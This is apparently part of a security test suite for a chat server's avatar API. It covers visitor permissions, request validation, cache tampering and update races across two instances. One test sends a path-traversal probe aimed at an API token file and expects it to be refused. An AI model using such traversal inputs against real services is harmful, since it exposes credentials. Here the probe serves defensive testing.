  // Finding, the other side of the lax base64 above: README "Avatars": "Ask GET /api/avatars?users=
  // which of the users you show have one and request only those pictures".
  it('a user listed as having an avatar has a picture to fetch', async () => {
    const raw = await registerLogin(srv, 'emptyone');
    const a = signAvatar(raw, Buffer.alloc(0));
    await raw.c.req('avatar_set', { avatar: { ...a, data: '%%%%' } });
    raw.c.close();
    const listed = await bob.api('GET', '/api/avatars?users=emptyone');
    expect(listed.status).toBe(200);
    for (const { username } of listed.body as { username: string }[]) {
      const pic = await get(bob, '/api/avatars/' + username);
      expect(`${pic.status} ${pic.status === 200 ? '' : pic.bytes.toString()}`).toMatch(/^200 /);
      expect(pic.bytes.length).toBeGreaterThan(0);
    }
  });

  it('visitors see avatars and have none', async () => {
    const r = await put(visitor, png(8, 8, 106), 'image/png');
    expect(r.status).toBe(403);
    expect(r.body?.error?.code).toMatch(/^E_(VISITOR_READ_ONLY|FORBIDDEN)$/);
    // By its version, as the UI asks (README "Avatars"): alice set A again a moment ago, and the
    // visitor's peer may not have heard of it yet.
    const pic = await get(visitor, `/api/avatars/alice?v=${sha(A)}`);
    expect(pic.status).toBe(200);
    expect(pic.bytes.equals(A)).toBe(true);
    const listed = await visitor.api('GET', '/api/avatars?users=alice,guest');
    expect(listed.status).toBe(200);
    expect(listed.body.map((a: any) => a.username)).toEqual(['alice']);
  });

  it('bad reads answer 4xx with a code: no users, 101 users, a bad name, a path escape; an unknown user is 404', async () => {
    const many = Array.from({ length: 101 }, (_, i) => 'u' + i).join(',');
    await expectAnswers([
      ['/api/avatars', 400],
      ['/api/avatars?users=' + many, 400],
      ['/api/avatars?users=alice,bad%20name', 400],
      ['/api/avatars/nobody', 404],
      ['/api/avatars/..%2f..%2fapi-token', 400],
      ['/api/avatars/a', 400],
    ]);
  });

  // Finding (small). README "Local API": `GET /api/avatars` takes `?users=<name>,<name>…` (1–100),
  // and the wire operation it runs takes `usernames: [1–100]` (§9.5, E_BAD_REQUEST for 0 here).
  it('GET /api/avatars naming nobody (?users= or ?users=,,,) is 400 E_BAD_REQUEST, as 1–100 names are required', async () => {
    await expectAnswers([
      ['/api/avatars?users=', 400],
      ['/api/avatars?users=,,,', 400],
    ]);
  });

  async function expectAnswers(cases: [string, number][]) {
    const wrong: string[] = [];
    for (const [route, status] of cases) {
      const r = await bob.api('GET', route);
      const code = status === 404 ? 'E_NOT_FOUND' : 'E_BAD_REQUEST';
      if (r.status !== status || r.body?.error?.code !== code)
        wrong.push(`${route.slice(0, 40)} -> ${r.status} ${JSON.stringify(r.body).slice(0, 80)}`);
    }
    expect(wrong).toEqual([]);
  }

  it('changed quickly, five times in a row: the last one is what everyone sees', async () => {
    const pics = [1, 2, 3, 4, 5].map((i) => png(24, 24, 110 + i));
    for (const p of pics) expect((await put(alice, p, 'image/png')).status).toBe(200);
    const last = sha(pics[4]!);
    const mine = await alice.api('GET', '/api/avatars?users=alice');
    expect(mine.body[0]?.hash).toBe(last);
    const raw = await registerLogin(srv, 'rawreader');
    expect(await heldHash(raw, 'alice')).toBe(last);
    const theirs = await bob.api('GET', '/api/avatars?users=alice');
    expect(theirs.body[0]?.hash).toBe(last);
    const pic = await get(bob, `/api/avatars/alice?v=${last}`);
    expect(pic.bytes.equals(pics[4]!)).toBe(true);
    raw.c.close();
    expect((await put(alice, A, 'image/png')).status).toBe(200);
  });

  it("a tampered cache is not shown: flipped bytes, or another user's validly signed record put in alice's place", async () => {
    const M = png(64, 64, 120);
    expect((await put(stranger, M, 'image/png')).status).toBe(200);
    // bob reads both, so that both are in his cache
    expect((await get(bob, '/api/avatars/alice')).bytes.equals(A)).toBe(true);
    expect((await get(bob, '/api/avatars/stranger')).bytes.equals(M)).toBe(true);
    const dir = path.join(bob.data, 'avatars');
    const files = fs.readdirSync(dir);
    const aliceFile = files.find((f) => f.toLowerCase().includes('alice'));
    const strangerFile = files.find((f) => f.toLowerCase().includes('stranger'));
    expect(aliceFile, files.join(',')).toBeDefined();
    expect(strangerFile, files.join(',')).toBeDefined();
    // the stranger's record, signed by the stranger, in alice's place
    fs.copyFileSync(path.join(dir, strangerFile!), path.join(dir, aliceFile!));
    await bob.kill();
    const bob2 = await startPeer(srv, [], { data: bob.data });
    const pic = await get(bob2, '/api/avatars/alice');
    expect(pic.bytes.equals(M)).toBe(false);
    if (pic.status === 200) expect(pic.bytes.equals(A)).toBe(true);
    // now flip one byte of whatever is there
    const cached = fs.readFileSync(path.join(dir, aliceFile!));
    const mid = Math.floor(cached.length / 2);
    cached[mid] = cached[mid]! ^ 0x20;
    fs.writeFileSync(path.join(dir, aliceFile!), cached);
    await bob2.kill();
    const bob3 = await startPeer(srv, [], { data: bob.data });
    const pic3 = await get(bob3, '/api/avatars/alice');
    if (pic3.status === 200) expect(pic3.bytes.equals(A)).toBe(true);
    else expect(pic3.status).toBeGreaterThanOrEqual(400);
    bob = bob3;
  });
});

// =============================================================================================
// SECURITY.md "Files and avatars": "With several instances the store keeps one record per user,
// the newest by its signed time whichever instance took it (one upsert), and a change is pushed
// to the co-members on every instance". Two instances on one PostgreSQL and NATS.
describe('avatars across two server instances (SECURITY.md, README "Running on PostgreSQL")', () => {
  const db = 'hchat_atk_avatars_' + crypto.randomBytes(4).toString('hex');
  const ns = 'atkav' + crypto.randomBytes(4).toString('hex');
  let s1: Awaited<ReturnType<typeof startServer>>;
  let s2: Awaited<ReturnType<typeof startServer>>;

  beforeAll(async () => {
    execFileSync('psql', ['-h', '127.0.0.1', '-U', 'postgres', '-c', `create database ${db}`], {
      timeout: 20_000,
      stdio: 'ignore',
    });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hc-av-key-'));
    const key = path.join(dir, 'signing-key.pem');
    execFileSync('openssl', ['genpkey', '-algorithm', 'ed25519', '-out', key], {
      timeout: 20_000,
    });
    const common = [
      ...REGS,
      '--store',
      `postgres://postgres@127.0.0.1:5432/${db}`,
      '--bus',
      'nats://127.0.0.1:4222',
      '--bus-namespace',
      ns,
      '--signing-key',
      key,
    ];
    s1 = await startServer(common);
    s2 = await startServer(common);
  }, 60_000);

  afterAll(async () => {
    await killAll();
    try {
      execFileSync(
        'psql',
        ['-h', '127.0.0.1', '-U', 'postgres', '-c', `drop database if exists ${db} with (force)`],
        { timeout: 20_000, stdio: 'ignore' },
      );
    } catch {
      // left for the machine's cleanup
    }
  });

  it('an older avatar sent through another instance never replaces the newer one, also when both race', async () => {
    const a1 = await registerLogin(s1, 'alice');
    const { c: c2 } = await serverHello(s2);
    const k2 = newKey();
    const l2 = await c2.req('login', {
      username: 'alice',
      password: a1.password,
      publicKey: k2.pk,
    });
    expect(l2.error).toBeUndefined();
    const a2 = { c: c2, key: k2, cert: l2.body.cert as string, username: 'alice' };
    const bob = await registerLogin(s2, 'bob');
    const stranger = await registerLogin(s2, 'stranger');
    const ch = uuid7();
    expect(
      (await a1.c.req('channel_create', { id: ch, name: 'two', allowVisitors: false })).error,
    ).toBeUndefined();
    expect((await bob.c.req('channel_join', { channelId: ch })).error).toBeUndefined();

    const base = Date.now() - 30_000;
    // newer first at s1, then the older at s2
    const newer = png(16, 16, 130);
    const older = png(16, 16, 131);
    const markBob = bob.c.events.length;
    expect(
      (await a1.c.req('avatar_set', { avatar: signAvatar(a1, newer, 'image/png', base + 1000) }))
        .error,
    ).toBeUndefined();
    await a2.c.req('avatar_set', { avatar: signAvatar(a2, older, 'image/png', base) });
    await sleep(800);
    for (const s of [a1, bob]) expect(await heldHash(s as Session, 'alice')).toBe(sha(newer));
    // pushed to the co-member on the other instance, never to the stranger there
    const heard = bob.c.events
      .slice(markBob)
      .filter((e) => e.ev === 'avatar' && e.body.username === 'alice');
    expect(heard.map((e) => e.body.hash)).toContain(sha(newer));
    expect(heard.map((e) => e.body.hash)).not.toContain(sha(older));
    expect(stranger.c.events.filter((e) => e.ev === 'avatar')).toEqual([]);

    // races: each round, both instances at once, the one with the later ts must win
    const wrong: string[] = [];
    for (let round = 0; round < 8; round++) {
      const t = base + 2000 + round * 10;
      const late = png(16, 16, 140 + round);
      const early = png(16, 16, 160 + round);
      const [lateOn, earlyOn] = round % 2 ? [a1, a2] : [a2, a1];
      await Promise.all([
        lateOn.c.req('avatar_set', { avatar: signAvatar(lateOn, late, 'image/png', t + 5) }),
        earlyOn.c.req('avatar_set', { avatar: signAvatar(earlyOn, early, 'image/png', t) }),
      ]);
      const h1 = await heldHash(a1 as Session, 'alice');
      const h2 = await heldHash(bob, 'alice');
      if (h1 !== sha(late) || h2 !== sha(late)) wrong.push(`round ${round}`);
    }
    expect(wrong).toEqual([]);
  });
});
